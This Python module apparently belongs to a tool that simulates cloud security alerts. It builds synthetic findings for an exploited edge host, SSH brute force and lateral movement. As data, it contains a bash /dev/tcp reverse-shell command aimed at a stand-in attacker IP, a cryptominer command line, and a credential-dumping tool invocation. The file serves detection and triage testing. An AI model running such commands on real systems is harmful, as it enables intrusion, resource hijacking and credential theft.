"""Attacks on instances."""

from __future__ import annotations

from isthmus.lab import hostile
from isthmus.lab.scenes import Scene, seen
from isthmus.model.assets import Asset, AssetKind
from isthmus.model.findings import Kind, Tie, Vulnerability
from isthmus.model.severity import Severity

CRITICAL, HIGH, MEDIUM, LOW = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW

DOORS = (
    Vulnerability(
        "CVE-2022-26134", "confluence-server", "7.17.3", "7.17.4", 9.8, epss=0.94, exploited=True, exploit_exists=True
    ),
    Vulnerability("CVE-2023-46604", "activemq-broker", "5.17.4", "5.17.6", 9.8, epss=0.94, exploited=True, exploit_exists=True),
    Vulnerability("CVE-2024-27198", "teamcity-server", "2023.11.3", "2023.11.4", 9.8, epss=0.94, exploited=True),
    Vulnerability("CVE-2021-44228", "log4j-core", "2.14.1", "2.17.1", 10.0, epss=0.94, exploited=True, exploit_exists=True),
)
"""Vulnerabilities in CISA's catalogue of exploited ones, in software that stands on the edge."""


def exploited_edge_host(scene: Scene) -> None:
    facing = scene.company.facing
    host = scene.cast.take(AssetKind.INSTANCE, fits=lambda one: one.ids[0] in facing)
    _way_in(scene, host)
    _shell_and_miner(scene, host)


def _way_in(scene: Scene, host: Asset) -> None:
    door = scene.rng.choice(DOORS)
    scene.flaw("wiz", host, CRITICAL, door)
    scene.flaw("securityhub", host, CRITICAL, door)
    title = f"Internet-facing VM with a network exploitable vulnerability ({door.cve})"
    scene.risk("wiz", host, HIGH, "wc-id-1024", title, Kind.TOXIC_COMBINATION)
    group = scene.cast.also(scene.company.tied(host, "guarded_by"))
    scene.risk("prisma", group, MEDIUM, "aws-sg-any-8090", "AWS Security Group allows all traffic on port 8090", internet=True)


def _shell_and_miner(scene: Scene, host: Asset) -> None:
    own, attacker = host.ids[-1], f"192.0.2.{scene.rng.randrange(10, 120)}"
    pool = f"pool-{scene.rng.randrange(100, 999)}.example"
    shell = seen(ip=attacker, process=f"bash -i >& /dev/tcp/{attacker}/4444 0>&1")
    miner = f"/tmp/.x/kworkerd -o stratum+tcp://{pool}:3333 --donate-level 0"  # noqa: S108 - what a miner was started as
    rule, title = "Execution:Runtime/ReverseShell", f"A process on EC2 instance {own} opened a reverse shell."
    scene.copied(scene.threat(4, "guardduty", host, HIGH, rule, title, shell, attack=("T1059.004",)))
    title = f"A shell on {host.name} was started by a web server process"
    scene.threat(3, "lacework", host, MEDIUM, "SuspiciousApplicationLaunched", title, shell)
    scene.threat(6, "wiz", host, CRITICAL, "reverse-shell-web-server", "Reverse shell spawned by a web server", shell)
    title = f"EC2 instance {own} is communicating on an unusual port with {attacker}."
    scene.threat(11, "guardduty", host, MEDIUM, "Behavior:EC2/NetworkPortUnusual", title, seen(ip=attacker))
    scene.threat(34, "wiz", host, HIGH, "miner-process", "Cryptominer process executed", seen(process=miner, domain=pool))
    rule = "CryptoCurrency:EC2/BitcoinTool.B!DNS"
    title = f"EC2 instance {own} is querying a domain name associated with cryptocurrency-related activity."
    finding = scene.threat(41, "guardduty", host, HIGH, rule, title, seen(domain=pool), attack=("T1496",))
    scene.copied(finding)
    title = f"New outbound DNS name {pool} from {host.name}"
    scene.threat(38, "lacework", host, MEDIUM, "NewExternalServerDns", title, seen(domain=pool), text=hostile.ORDERS[0])
    scene.threat(58, "lacework", host, HIGH, "PotentiallyCompromisedHost", f"Potentially compromised host {host.name}")


def lateral_movement(scene: Scene) -> None:
    facing, free = scene.company.facing, scene.cast.free(AssetKind.INSTANCE)
    first = scene.cast.take(
        AssetKind.INSTANCE, fits=lambda one: one.ids[0] in facing and sum(one.account == other.account for other in free) > 2
    )
    near = [scene.cast.take(AssetKind.INSTANCE, fits=lambda one: one.account == first.account) for _ in range(2)]
    _guessed(scene, first)
    _onwards(scene, first, near[0], 70)
    _onwards(scene, near[0], near[1], 150)
    title = f"Suspicious file executed on {near[1].name}: credential dumping tool"
    scene.threat(171, "wiz", near[1], HIGH, "credential-dump", title, seen(process="./mimipenguin.sh"), attack=("T1003",))
    title = f"EC2 instance {near[1].ids[-1]} is sending large amounts of data to an unusual remote host."
    scene.threat(195, "guardduty", near[1], MEDIUM, "Behavior:EC2/TrafficVolumeUnusual", title, seen(ip="192.0.2.141"))


def _guessed(scene: Scene, first: Asset) -> None:
    attacker = f"192.0.2.{scene.rng.randrange(130, 140)}"
    group = scene.company.tied(first, "guarded_by")
    scene.risk("securityhub", group, HIGH, "EC2.13", "Security groups should not allow ingress from 0.0.0.0/0 to port 22")
    rule, title = (
        "UnauthorizedAccess:EC2/SSHBruteForce",
        f"{attacker} is performing SSH brute force attacks against {first.ids[-1]}.",
    )
    scene.copied(scene.threat(2, "guardduty", first, LOW, rule, title, seen(ip=attacker), internet=True, attack=("T1110",)))
    title = f"Successful SSH login to {first.name} after many failures from {attacker}"
    scene.threat(26, "lacework", first, MEDIUM, "SuspiciousLogin", title, seen(ip=attacker))
    title = "Unusual successful SSH login following brute force"
    scene.threat(29, "wiz", first, HIGH, "ssh-login-after-failures", title, seen(ip=attacker), attack=("T1078",))


def _onwards(scene: Scene, source: Asset, target: Asset, minute: int) -> None:
    """One instance is entered from another."""
    rule, title = "UnauthorizedAccess:EC2/SSHBruteForce", f"{source.ids[-1]} is performing SSH brute force attacks."
    scene.threat(minute, "guardduty", source, HIGH, rule, title, ties=_to(target), attack=("T1021.004",))
    process = seen(process=f"ssh -o StrictHostKeyChecking=no ubuntu@{target.name}")
    title = f"New internal SSH connection from {source.name} to {target.name}"
    scene.threat(minute + 3, "lacework", source, LOW, "NewInternalConnection", title, process, _to(target))
    title = f"Lateral movement: interactive SSH session from {source.name}"
    scene.threat(minute + 8, "wiz", target, MEDIUM, "lateral-ssh", title, process, _to(source), attack=("T1021.004",))


def _to(asset: Asset) -> tuple[Tie, ...]:
    return (Tie("touches", asset),)
